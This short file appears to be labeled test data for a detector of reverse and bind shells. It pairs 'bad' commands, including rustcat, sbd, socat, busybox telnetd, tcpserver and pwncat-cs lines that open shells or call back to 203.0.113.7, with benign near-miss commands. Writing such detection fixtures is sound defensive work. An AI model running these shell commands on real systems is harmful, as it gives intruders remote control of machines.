# bad: rustcat that calls back
rcat connect -s bash 203.0.113.7 4444
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
# bad: rustcat that waits and takes over the terminal
rcat listen -ie "/usr/bin/script -qc /bin/bash /dev/null" 6969
# bad: an encrypted netcat
sbd -e /bin/bash 203.0.113.7 4444
# bad: a login without a login
busybox telnetd -l /bin/sh -p 9999
# bad: a shell for each connection
tcpserver 0 7007 /bin/sh -i
# bad: a handler of shells that call back
pwncat-cs -lp 4444
# bad: socat that was put there
./socat TCP4-LISTEN:7007,fork EXEC:bash
# bad: a terminal on the screen of another machine
xterm -display 203.0.113.7:1
# good: nearly: a terminal on a screen of this machine
xterm -display localhost:1
# good: nearly: rustcat that shows what comes in
rcat listen 6969
# good: nearly: a server of a service
tcpserver 0 25 /usr/sbin/qmail-smtpd
# good: nearly: a telnet server as it comes
telnetd -debug 2323
# good: netcat that waits for a port
nc -z db.example 5432
